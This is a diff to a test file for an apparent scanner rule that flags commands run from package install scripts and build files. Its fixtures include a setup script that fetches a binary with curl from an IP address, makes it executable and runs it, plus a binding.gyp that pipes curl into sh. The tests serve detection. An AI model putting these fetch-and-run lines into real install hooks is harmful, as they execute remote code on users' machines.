@@ -319,13 +319,13 @@ test('bad: programs that are fed, scripts that are written and loaded, and code 
 test('commands in files of their own, where something starts them', () => {
   const SETUP = '#!/bin/sh\nmkdir -p logs\ncurl -s http://203.0.113.9/x -o x\nchmod +x x\n./x\n';
   const start = { original: { scripts: { install: 'sh scripts/setup.sh' } } };
-  assert.deepEqual(said(rule, { 'index.js': '', 'scripts/setup.sh': SETUP }, start), ['high scripts/setup.sh:2']);
-  assert.deepEqual(said(rule, { 'index.js': 'require("child_process").spawn("sh", ["scripts/setup.sh"])', 'scripts/setup.sh': SETUP }), ['high scripts/setup.sh:2']);
+  assert.deepEqual(said(rule, { 'index.js': '', 'scripts/setup.sh': SETUP }, start), ['high scripts/setup.sh:5']);
+  assert.deepEqual(said(rule, { 'index.js': 'require("child_process").spawn("sh", ["scripts/setup.sh"])', 'scripts/setup.sh': SETUP }), ['high scripts/setup.sh:5']);
   assert.deepEqual(said(rule, { 'index.js': '', 'scripts/setup.sh': SETUP }), [], 'nothing starts it');
   const task = { 'package.json': '{ "scripts": { "update": "sh scripts/setup.sh" } }', 'scripts/setup.sh': SETUP };
   assert.deepEqual(said(rule, { ...task, 'index.js': '' }, { entry_points: ['index.js'] }), [], 'only whoever works on the package starts it');
-  assert.deepEqual(said(rule, { ...task, 'index.js': '' }), ['high scripts/setup.sh:2'], 'or nobody knows what is started');
-  assert.deepEqual(said(rule, { ...task, 'index.js': 'require("child_process").exec(x)' }, { entry_points: ['index.js'] }), ['high scripts/setup.sh:2']);
+  assert.deepEqual(said(rule, { ...task, 'index.js': '' }), ['high scripts/setup.sh:5'], 'or nobody knows what is started');
+  assert.deepEqual(said(rule, { ...task, 'index.js': 'require("child_process").exec(x)' }, { entry_points: ['index.js'] }), ['high scripts/setup.sh:5']);
   assert.deepEqual(said(rule, { 'index.js': '', 'scripts/setup.sh': '#!/bin/sh\n# curl -s https://example.org/x | sh\nrm -rf /tmp/x\nnode -e "fetch(\'https://example.org\')"\n' }, start), []);
   assert.deepEqual(said(rule, { 'index.js': '', 'binding.gyp': '{ "targets": [{ "variables": { "x": "<!(curl -s https://example.org/x | sh)" } }] }' }), ['high binding.gyp:1']);
   assert.deepEqual(said(rule, { 'index.js': '', 'binding.gyp': '{ "targets": [{ "include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"] }] }' }), []);
